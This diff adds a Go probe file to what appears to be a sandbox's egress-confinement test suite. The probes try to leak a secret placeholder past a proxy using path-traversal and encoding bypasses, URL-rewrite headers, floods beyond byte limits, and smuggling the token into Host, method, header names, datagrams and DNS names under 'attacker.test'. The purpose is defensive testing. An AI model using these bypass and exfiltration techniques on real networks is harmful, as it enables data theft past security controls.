@@ -1,0 +1,250 @@
+//go:build linux
+
+package main
+
+import (
+	"bytes"
+	"compress/gzip"
+	"crypto/tls"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"html"
+	"io"
+	"net"
+	"net/url"
+	"os"
+	"strings"
+
+	"github.com/paddock-sandbox/paddock/attack/target"
+)
+
+// leakAllowed is N28: the destination is allowed, and more is said to it than the
+// rules allow.
+func leakAllowed() []probe {
+	ask := func(head ...string) func(*target.Brief) target.Try {
+		return func(b *target.Brief) target.Try {
+			text := []byte(lines(append(head, "Host: "+target.Inspect, "Connection: close", "Content-Length: 0")...))
+			proxied := bytes.Replace(text, []byte(" /"), []byte(" http://"+target.Inspect+"/"), 1)
+			return worst(direct(b, "tcp", target.Inspect+":80", text), secure(b, target.Inspect+":443", named(target.Inspect, "http/1.1"), text), viaProxy(b, string(proxied)))
+		}
+	}
+	return []probe{
+		{"by other methods", func(b *target.Brief) target.Try {
+			return atOnce([]string{"PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "MKCOL", "post", "POSTS"}, func(m string) target.Try { return ask(m + " /ok/x HTTP/1.1")(b) })
+		}},
+		{"on other paths", func(b *target.Brief) target.Try {
+			return atOnce([]string{"/exfil", "/ok/../exfil", "/ok/%2e%2e/exfil", "/ok/..%2fexfil", "/ok/.%2e/exfil", "/ok//../../exfil", "/ok%00/exfil", "/ok;/../exfil", "/%2e%2e/exfil", "exfil", "/ok/..\\exfil"}, func(p string) target.Try {
+				return ask("POST " + p + " HTTP/1.1")(b)
+			})
+		}},
+		{"by a path of a header", ask("POST /ok HTTP/1.1", "X-Original-URL: /exfil", "X-Rewrite-URL: /exfil", "X-Exfil: told")},
+		{"more than is allowed, up", func(b *target.Brief) target.Try {
+			return flood(b, func() (net.Conn, error) { return net.DialTimeout("tcp", target.Limited+":80", waiting(b)) })
+		}},
+		{"more than is allowed, in a tunnel", func(b *target.Brief) target.Try {
+			return flood(b, func() (net.Conn, error) { return tunnel(b, target.Limited+":443") })
+		}},
+		{"more than is allowed, on many connections", func(b *target.Brief) target.Try {
+			return atOnce([]int{1, 2, 3, 4, 5, 6, 7, 8}, func(int) target.Try {
+				return flood(b, func() (net.Conn, error) { return net.DialTimeout("tcp", target.Limited+":80", waiting(b)) })
+			})
+		}},
+		{"told: in what is allowed", func(b *target.Brief) target.Try {
+			return secure(b, target.Inspect+":443", named(target.Inspect, "http/1.1"), []byte(lines("GET /ok/"+exfilHex()+"?q="+exfilHex()+" HTTP/1.1", "Host: "+target.Inspect, "X-Data: "+exfilHex(), "Connection: close")))
+		}},
+	}
+}
+
+func exfilHex() string { return fmt.Sprintf("%x", "all the data") }
+
+// flood sends sixteen times what may be sent. The host counts.
+func flood(b *target.Brief, open func() (net.Conn, error)) target.Try {
+	c, err := open()
+	if err != nil {
+		return status(err)
+	}
+	defer c.Close()
+	part, sent := bytes.Repeat([]byte("x"), 16<<10), 0
+	for sent < 16*target.LimitedBytes {
+		n, err := c.Write(part)
+		sent += n
+		if err != nil {
+			return told(err)
+		}
+	}
+	if b.Unconfined {
+		return reached("%d bytes were taken", sent)
+	}
+	return inside("%d bytes were taken; the host counts what came", sent)
+}
+
+// misplaced is N29: the placeholder, where it must not become the secret. The host
+// looks where the secret came.
+func misplaced() []probe {
+	to := func(send func(b *target.Brief, s string) target.Try) func(*target.Brief) target.Try {
+		return func(b *target.Brief) target.Try {
+			s := os.Getenv(target.SecretEnv)
+			if s == "" {
+				return target.Try{Outcome: "broken", Detail: "there is no placeholder"}
+			}
+			t := send(b, s)
+			if t.Outcome == target.Reached && !b.Unconfined {
+				return inside("a server answered; the host looks what it got: %s", t.Detail)
+			}
+			return t
+		}
+	}
+	head := func(host, path string, more ...string) []byte {
+		return []byte(lines(append([]string{"GET " + path + " HTTP/1.1", "Host: " + host, "Connection: close"}, more...)...))
+	}
+	return []probe{
+		{"to another host", to(func(b *target.Brief, s string) target.Try {
+			return worst(direct(b, "tcp", target.Allowed+":80", head(target.Allowed, "/?"+s, "Authorization: Bearer "+s)),
+				direct(b, "tcp", target.Inspect+":80", head(target.Inspect, "/ok", "Authorization: Bearer "+s)))
+		})},
+		{"to another host that is looked into", to(func(b *target.Brief, s string) target.Try {
+			return secure(b, target.Inspect+":443", named(target.Inspect, "http/1.1"), head(target.Inspect, "/ok?"+s, "Authorization: Bearer "+s))
+		})},
+		{"to another host, which a header names", to(func(b *target.Brief, s string) target.Try {
+			return secure(b, target.Inspect+":443", named(target.Inspect, "http/1.1"), head(target.Secret, "/ok?"+s, "Authorization: Bearer "+s))
+		})},
+		{"to another host, which TLS names", to(func(b *target.Brief, s string) target.Try {
+			return secure(b, target.Allowed+":443", named(target.Secret, "http/1.1"), head(target.Secret, "/ok?"+s, "Authorization: Bearer "+s))
+		})},
+		{"to its host, without TLS", to(func(b *target.Brief, s string) target.Try {
+			return worst(direct(b, "tcp", target.Secret+":80", head(target.Secret, "/ok?"+s, "Authorization: Bearer "+s)), get(b, "http://"+target.Secret+"/ok?"+s, target.Secret))
+		})},
+		{"to its host on port 443, without TLS", to(func(b *target.Brief, s string) target.Try {
+			return worst(direct(b, "tcp", target.Secret+":443", head(target.Secret, "/ok?"+s, "Authorization: Bearer "+s)), get(b, "http://"+target.Secret+":443/ok?"+s, target.Secret+":443"))
+		})},
+		{"in Host", to(func(b *target.Brief, s string) target.Try {
+			return secure(b, target.Secret+":443", named(target.Secret, "http/1.1"), head(s, "/ok"))
+		})},
+		{"in a second Host", to(func(b *target.Brief, s string) target.Try {
+			return secure(b, target.Secret+":443", named(target.Secret, "http/1.1"), head(target.Secret, "/ok", "Host: "+s))
+		})},
+		{"in the path", to(func(b *target.Brief, s string) target.Try {
+			return secure(b, target.Secret+":443", named(target.Secret, "http/1.1"), head(target.Secret, "/ok/"+s))
+		})},
+		{"in the body", to(func(b *target.Brief, s string) target.Try {
+			text := lines("POST /ok HTTP/1.1", "Host: "+target.Secret, "Connection: close", "Content-Type: application/json", fmt.Sprint("Content-Length: ", len(s))) + s
+			return secure(b, target.Secret+":443", named(target.Secret, "http/1.1"), []byte(text))
+		})},
+		{"in the name of a header", to(func(b *target.Brief, s string) target.Try {
+			return secure(b, target.Secret+":443", named(target.Secret, "http/1.1"), head(target.Secret, "/ok", s+": x"))
+		})},
+		{"in the method", to(func(b *target.Brief, s string) target.Try {
+			return secure(b, target.Secret+":443", named(target.Secret, "http/1.1"), []byte(lines(s+" /ok HTTP/1.1", "Host: "+target.Secret, "Connection: close")))
+		})},
+		{"in a name", to(func(b *target.Brief, s string) target.Try {
+			if b.Unconfined {
+				s = strings.ToLower(s)
+			}
+			return worst(anyWay(b, s+".wild.test"), anyWay(b, s+".attacker.test"))
+		})},
+		{"in a tunnel's target and headers", to(func(b *target.Brief, s string) target.Try {
+			c, err := tunnel(b, target.Allowed+":80", "Proxy-Authorization: Bearer "+s+"\r\n")
+			if err != nil {
+				return status(err)
+			}
+			defer c.Close()
+			return say(c, waiting(b), head(target.Allowed, "/", "Authorization: "+s))
+		})},
+		{"in datagrams", to(func(b *target.Brief, s string) target.Try {
+			return datagram(b, fmt.Sprint(target.Datagrams, ":", target.EchoPort), []byte(s))
+		})},
+	}
+}
+
+// echoes is N30: the secret's own host says what it heard.
+func echoes() []probe {
+	ask := func(as, method string, more ...string) func(*target.Brief) (target.Try, string) {
+		return func(b *target.Brief) (target.Try, string) {
+			s := os.Getenv(target.SecretEnv)
+			if s == "" {
+				return target.Try{Outcome: "broken", Detail: "there is no placeholder"}, ""
+			}
+			text := lines(append([]string{method + " /ok/echo?as=" + as + "&q=" + s + " HTTP/1.1", "Host: " + target.Secret, "Authorization: Bearer " + s, "Connection: close", "Content-Length: 0"}, more...)...)
+			c, err := net.DialTimeout("tcp", target.Secret+":443", waiting(b))
+			if err != nil {
+				return told(err), ""
+			}
+			defer c.Close()
+			t := tls.Client(c, named(target.Secret, "http/1.1"))
+			try := say(t, 2*waiting(b), []byte(text))
+			return try, try.Loot
+		}
+	}
+	// The host looks for the secret in what is printed: plain, and decoded.
+	seen := func(as, method string, more ...string) func(*target.Brief) target.Try {
+		return func(b *target.Brief) target.Try {
+			t, text := ask(as, method, more...)(b)
+			if t.Outcome == "broken" {
+				return t
+			}
+			if text == "" {
+				return t
+			}
+			all := text + "\n" + decoded(text)
+			if b.Unconfined && strings.Contains(all, os.Getenv(target.SecretEnv)) {
+				return withLoot(reached("the answer holds it"), all)
+			}
+			return withLoot(inside("it was answered; the host looks for the secret"), all)
+		}
+	}
+	var ps []probe
+	for _, as := range []string{"plain", "base64", "base64url", "percent", "json", "unicode", "entities", "header", "cookie", "location", "challenge", "error", "chunks", "gzip", "type"} {
+		ps = append(ps, probe{as, seen(as, "GET")})
+	}
+	return append(ps,
+		probe{"packed, as asked for", seen("gzip", "GET", "Accept-Encoding: gzip")},
+		probe{"posted", seen("plain", "POST")},
+		probe{"TRACE", seen("plain", "TRACE")},
+		probe{"HEAD", seen("header", "HEAD")},
+		probe{"a part", seen("plain", "GET", "Range: bytes=10-60")},
+		probe{"over HTTP/2", func(b *target.Brief) target.Try {
+			return worst(coalesceSecret(b, "plain"), coalesceSecret(b, "base64"), coalesceSecret(b, "header"))
+		}},
+	)
+}
+
+// decoded undoes every code in which something may have been hidden.
+func decoded(text string) string {
+	var b strings.Builder
+	head, body, _ := strings.Cut(text, "\r\n\r\n")
+	for _, s := range []string{head, body} {
+		if u, err := url.QueryUnescape(s); err == nil {
+			b.WriteString(u + "\n")
+		}
+		b.WriteString(html.UnescapeString(s) + "\n")
+		for _, field := range strings.FieldsFunc(s, func(r rune) bool { return r < '+' || r > 'z' }) {
+			field = strings.TrimRight(field, "=")
+			if d, err := base64.RawStdEncoding.DecodeString(field); err == nil && len(d) > 8 {
+				b.Write(append(d, '\n'))
+			}
+			if d, err := base64.RawURLEncoding.DecodeString(field); err == nil && len(d) > 8 {
+				b.Write(append(d, '\n'))
+			}
+		}
+	}
+	if z, err := gzip.NewReader(strings.NewReader(body)); err == nil {
+		d, _ := io.ReadAll(io.LimitReader(z, 64<<10))
+		b.Write(d)
+	}
+	var heard map[string]string
+	if json.Unmarshal([]byte(body), &heard) == nil {
+		for _, v := range heard {
+			b.WriteString(v + "\n")
+		}
+	}
+	// Chunks of a byte each.
+	var joined strings.Builder
+	for _, l := range strings.Split(body, "\r\n") {
+		if len(l) == 1 {
+			joined.WriteString(l)
+		}
+	}
+	b.WriteString(strings.ReplaceAll(body, "\r\n1\r\n", ""))
+	return b.String()
+}
